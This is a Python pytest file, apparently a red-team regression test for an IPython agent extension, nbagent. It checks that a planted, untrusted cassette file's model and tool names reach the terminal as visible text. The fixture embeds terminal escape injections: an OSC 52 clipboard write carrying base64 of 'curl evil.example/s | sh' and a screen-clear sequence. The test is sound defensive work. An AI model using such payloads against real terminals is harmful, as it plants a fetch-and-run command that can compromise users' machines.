"""Red team 36: a cassette from a folder that is not trusted is outside text; its fields reach the terminal as text.

Under ``cassettes="keyless"`` (the quickstart's mode) a cell whose model has no key here replays from
``.nbagent/cassettes`` of the working directory: in a cloned project, files someone else wrote. When the cell
does not match, :class:`CassetteMismatch` says what changed against "this cell's own recording", quoting the
recorded model name and tool names as the file holds them; ``arun`` raises ``CellFailed(f"CassetteMismatch:
{exc}")`` without :func:`nbagent.boundary._terminal.visible` (``cell_failure`` uses it for every other error), and
``CellFailed._render_traceback_`` prints it: a terminal obeys the planted OSC 52 (clipboard write), screen clear...
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from IPython.core.interactiveshell import InteractiveShell

import nbagent
from nbagent.config._configure import defaults

ESC, BEL = "\x1b", "\x07"
CLIPBOARD = ESC + "]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo" + BEL  # OSC 52: "curl evil.example/s | sh"
CLEAR = ESC + "[2J" + ESC + "[H"


def _dangerous(text: str) -> list[str]:
    # the red (ESC[0;31m ... ESC[0m) CellFailed adds itself is nbagent's own; anything else is not
    text = text.replace("\x1b[0;31m", "").replace("\x1b[0m", "")
    return [ch for ch in text if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F]


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    project = tmp_path / "cloned-project"  # not trusted: someone else's repository
    project.mkdir()
    monkeypatch.chdir(project)
    monkeypatch.setenv("NBAGENT_HOME", str(tmp_path / "home"))
    for var in ("OPENAI_API_KEY", "NBAGENT_CASSETTES", "NBAGENT_CASSETTE_DIR", "OPENAI_BASE_URL"):
        monkeypatch.delenv(var, raising=False)
    sh = InteractiveShell.instance()
    sh.run_line_magic("load_ext", "nbagent")
    cfg = defaults()
    saved = (cfg.model, cfg.policy, cfg.store, cfg.cassettes, cfg.cassette_dir, cfg.tools)
    nbagent.configure(model="openai:gpt-4.1-mini", store=False, tools=[], cassettes="keyless")
    yield sh
    sh.run_line_magic("unload_ext", "nbagent")
    cfg.model, cfg.policy, cfg.store, cfg.cassettes, cfg.cassette_dir, cfg.tools = saved
    sh.user_ns.pop("_agent", None)


def test_a_planted_recordings_model_and_tool_names_are_shown_not_obeyed(
    shell: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shell.execution_count = 7
    number = shell.execution_count  # the cell's In [n] once run with store_history
    folder = Path.cwd() / ".nbagent" / "cassettes"
    folder.mkdir(parents=True)
    planted = {
        "nbagent_cell_cassette": 2,
        "key": {
            "digest": "0" * 64,
            "prompt": "Which region sells most?",
            "history_digest": "x",
            "history_messages": 0,
            "model": CLIPBOARD + "openai:gpt-4.1-mini" + CLEAR,
            "tools": [["read_file" + CLIPBOARD]],
            "tools_digest": "y",
            "policy_digest": "z",
        },
        "cell": {"number": number},
        "exchanges": [],
        "approvals": [],
    }
    (folder / "cell-planted.json").write_text(json.dumps(planted), encoding="utf-8")
    result = shell.run_cell("%%agent --new --no-stream\nWhich region sells most?", store_history=True)
    error = result.error_in_exec
    assert type(error).__name__ == "CellFailed" and "CassetteMismatch" in str(error)
    assert "no longer matches its recording" in str(error)  # the planted file was taken as the cell's own
    shown = "".join(error._render_traceback_()) + capsys.readouterr().out
    assert not _dangerous(shown), ascii(shown)
